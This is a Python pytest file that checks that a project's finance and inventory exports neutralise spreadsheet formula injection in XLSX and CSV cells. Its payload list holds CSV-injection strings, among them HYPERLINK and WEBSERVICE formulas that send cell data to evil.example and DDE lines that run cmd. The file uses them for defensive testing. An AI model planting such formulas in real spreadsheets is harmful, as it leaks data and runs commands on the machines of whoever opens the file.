"""Class 1: spreadsheet formula injection is neutralised in every XLSX and CSV govcloud writes.

Payloads follow OWASP's CSV-injection list and go beyond it: DDE, full-width equals, leading
tab and carriage return, and a text that already starts with a quote (it must round-trip).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from foundation.cells import FORMULA_TRIGGERS, csv_value, neutralise, restore
from inventory.loader import load_inventory
from planner.core import make_plan
from reporting.finance import write_finance
from tests.security.conftest import write_yaml

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    '=WEBSERVICE("http://evil.example/"&A2)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
    "'=already quoted",
]


def _poisoned(city: dict[str, Any]) -> dict[str, Any]:
    city["departments"][0]["name"] = PAYLOADS[0]
    city["systems"][0]["name"] = PAYLOADS[1]
    city["rooms"][0]["name"] = PAYLOADS[2]
    city["networks"][0]["name"] = PAYLOADS[3]
    city["networks"][0]["carrier"] = PAYLOADS[4]
    city["assets"][0]["model"] = PAYLOADS[5]
    city["systems"][1]["description"] = PAYLOADS[6]  # a name may not hold a tab; free text may
    city["buildings"][0]["name"] = PAYLOADS[7]
    return city


def _dangerous(text: str) -> bool:
    return bool(text) and text[0] in FORMULA_TRIGGERS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralised_text_never_starts_a_formula_and_restores_exactly(payload: str) -> None:
    cell = csv_value(payload)
    assert not _dangerous(cell)
    assert restore(cell) == payload


def test_numbers_and_plain_text_are_left_as_they_are() -> None:
    assert csv_value(-5) == -5
    assert neutralise("预算管理系统") == "预算管理系统"


def _ledger(tmp_path: Path, city: dict[str, Any]) -> tuple[Path, Path]:
    from planner.policy import load_policy

    inventory = load_inventory(write_yaml(tmp_path / "city.yaml", _poisoned(city)))
    plan = make_plan(inventory, load_policy())
    xlsx, csv_dir = tmp_path / "ledger.xlsx", tmp_path / "ledger"
    write_finance(plan, inventory, xlsx=xlsx, csv_dir=csv_dir)
    return xlsx, csv_dir


def test_finance_workbook_holds_no_formula_cell(tmp_path: Path, city: dict[str, Any]) -> None:
    xlsx, _ = _ledger(tmp_path, city)
    book = openpyxl.load_workbook(xlsx)
    seen = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and _dangerous(cell.value):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} is not marked as text"
                    seen.append(cell.value)
    assert seen, "the poisoned names must reach the ledger for this case to mean anything"


def _csv_fields(directory: Path) -> list[str]:
    fields = []
    for f in sorted(directory.glob("*.csv")):
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8-sig"))):
            fields.extend(row)
    return fields


def test_finance_csv_fields_never_start_a_formula(tmp_path: Path, city: dict[str, Any]) -> None:
    _, csv_dir = _ledger(tmp_path, city)
    fields = _csv_fields(csv_dir)
    assert any(f.lstrip("'").startswith("=HYPERLINK") for f in fields)
    assert [f for f in fields if _dangerous(f)] == []


def test_inventory_csv_export_is_formula_safe_and_reads_back_equal(
    tmp_path: Path, city: dict[str, Any]
) -> None:
    from inventory.survey import export_csv
    from inventory.template import export_xlsx

    original = load_inventory(write_yaml(tmp_path / "city.yaml", _poisoned(city)))
    export_csv(original, tmp_path / "csv")
    assert [f for f in _csv_fields(tmp_path / "csv") if _dangerous(f)] == []
    assert load_inventory(tmp_path / "csv") == original
    export_xlsx(original, tmp_path / "survey.xlsx")
    assert load_inventory(tmp_path / "survey.xlsx") == original
